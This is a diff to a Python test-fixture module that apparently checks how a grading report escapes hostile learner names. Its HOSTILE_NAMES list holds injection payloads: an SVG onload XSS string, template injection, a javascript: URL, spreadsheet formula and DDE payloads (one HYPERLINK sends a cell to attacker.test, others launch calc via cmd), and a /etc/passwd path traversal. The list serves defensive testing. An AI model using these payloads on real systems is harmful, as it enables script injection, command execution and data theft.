@@ -16,12 +16,12 @@ HOSTILE_NAMES = (
     "</title></style></textarea><svg onload=window.attacked=1>",
     "{{ 7 * 191 }}{% raw %}",
     "javascript:window.attacked=1",
-    "=HYPERLINK(\"http://attacker.test/?\"&A1;\"open\")",
+    '=HYPERLINK("http://attacker.test/?"&A1;"open")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "\t=1+1",
-    "＝1+1",
+    "\uff1d1+1",
     "../../../etc/passwd",
     "..",
     "CON",
@@ -75,7 +75,9 @@ def row(id_: str = "anna", *checks: dict[str, Any], **fields: Any) -> Row:
     """Return a row; its marks follow from the checks unless they are given."""
     checks = checks or (check(1), check(2, "failed"))
     outcomes = {found["outcome"] for found in checks}
-    outcome = "ungradable" if "error" in outcomes else "failed" if "failed" in outcomes else "passed"
+    outcome = (
+        "ungradable" if "error" in outcomes else "failed" if "failed" in outcomes else "passed"
+    )
     name = fields.pop("name", "")
     default = {
         "learner": Learner(id_, name, fields.pop("email", "")),
@@ -179,5 +181,7 @@ def _result(number: int, index: int) -> dict[str, Any]:
         actual = "it listens on 127.0.0.1:8000" if index % 2 else "uid 0 (root)\nprocess: uvicorn"
         return check(index, "failed", title=title, actual=actual)
     if (number * 5 + index) % 17 == 0:
-        return check(index, "skipped", title=title, actual="not checked, because this failed: Builds")
+        return check(
+            index, "skipped", title=title, actual="not checked, because this failed: Builds"
+        )
     return check(index, title=title)
